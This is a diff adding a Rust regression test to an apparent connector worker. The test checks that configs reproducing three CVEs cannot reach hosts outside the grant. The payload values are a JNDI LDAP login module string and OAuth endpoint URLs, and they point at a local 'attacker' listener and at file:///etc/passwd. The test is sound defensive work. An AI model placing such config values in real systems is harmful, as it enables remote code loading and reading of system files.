@@ -1,5 +1,6 @@
 use strata_worker::WorkerError;
 
+use super::sinks::fill;
 use super::*;
 
 #[tokio::test]
@@ -21,6 +22,46 @@ async fn a_host_that_is_not_granted_fails_the_task_and_its_neighbours_go_on() {
     assert!(trace.contains("example.com:80 is not in the grant"), "{trace}");
     task_is(&cluster, &worker, "numbers", 0, State::Running).await;
     worker.shutdown().await;
+}
+
+/// A connector's config named a login module that asked a directory server for code (2023-25194), a token's address that was a
+/// file or another's host (2025-27817), an LDAP login (2025-27818).
+#[tokio::test]
+async fn cve_2023_25194_and_2025_27817_and_2025_27818_a_config_reaches_nothing_that_is_not_granted() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let attacker = listener.local_addr().unwrap();
+    let cluster = Memory::new();
+    let worker = worker(&cluster).await;
+    let login = format!(
+        "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://{attacker}/x\";"
+    );
+    let addresses =
+        [format!("http://{attacker}/"), format!("ldap://{attacker}/x"), "file:///etc/passwd".to_owned()];
+    for (number, address) in addresses.iter().enumerate() {
+        let mut config = properties(&[
+            ("connector.class", "http-sink"),
+            ("topics", "t"),
+            ("http.url", address),
+            ("strata.http.allow", "example.org:80"),
+        ]);
+        for client in ["producer", "consumer", "admin"] {
+            for (key, value) in [
+                ("sasl.jaas.config", login.as_str()),
+                ("sasl.oauthbearer.token.endpoint.url", address),
+                ("sasl.oauthbearer.jwks.endpoint.url", address),
+            ] {
+                config.insert(format!("{client}.override.{key}"), value.to_owned());
+            }
+        }
+        fill(&cluster, &["a"]).await;
+        let name = format!("reaching-{number}");
+        worker.create(&name, config, Default::default()).await.unwrap();
+        let trace = task_is(&cluster, &worker, &name, 0, State::Failed).await.unwrap();
+        assert!(trace.contains(address) && !trace.contains("root:"), "{trace}");
+    }
+    worker.shutdown().await;
+    assert!(listener.accept().is_err(), "the attacker's host was dialled");
 }
 
 #[tokio::test]
